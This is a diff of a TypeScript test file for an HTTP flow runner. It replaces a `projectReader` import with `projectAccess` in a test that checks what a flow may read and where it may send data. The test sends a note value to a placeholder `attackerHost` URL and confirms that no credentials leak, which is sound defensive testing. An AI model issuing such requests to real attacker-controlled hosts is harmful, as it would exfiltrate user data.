@@ -15,7 +15,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { runCli } from '../../../src/cli/cli';
 import { parseFlow, runFlow, type FlowEnvironment } from '../../../src/core/flows';
-import { FlowFileAccessError, projectOf, projectReader, readInScope, readScopeOf } from '../../../src/core/flows/projectFiles';
+import { FlowFileAccessError, projectAccess, projectOf, readInScope, readScopeOf } from '../../../src/core/flows/projectFiles';
 import { generateKeyMaterial, importPrivateKeyPem } from '../../../src/core/jwt/keys';
 import { TokenMinter } from '../../../src/core/jwt/mint';
 import { startSandbox, type SandboxHandle } from '../../../src/core/sandbox/server';
@@ -198,7 +198,7 @@ describe('flows: what a flow may read and where it may send', function () {
         received.push(`${req.method} ${req.url} ${req.headers.authorization ?? 'no-auth'}`);
         res.end('{}');
       });
-      const reader = projectReader(project);
+      const reader = (p: string, f: string) => projectAccess(project).read(p, f);
       const r = await runFlow(parseFlow(`@note = hello\nPOST http://${attackerHost}/plain?n={{note}}&t={{$timestamp}}\n\n{"a":1}\n`, join(project, 'flows', 'plain.http')), { environment, readFile: reader });
       assert.equal(r[0]?.outcome, 'passed', r[0]?.message);
       assert.match(received[0] ?? '', /^POST \/plain\?n=hello&t=\d+ no-auth$/);
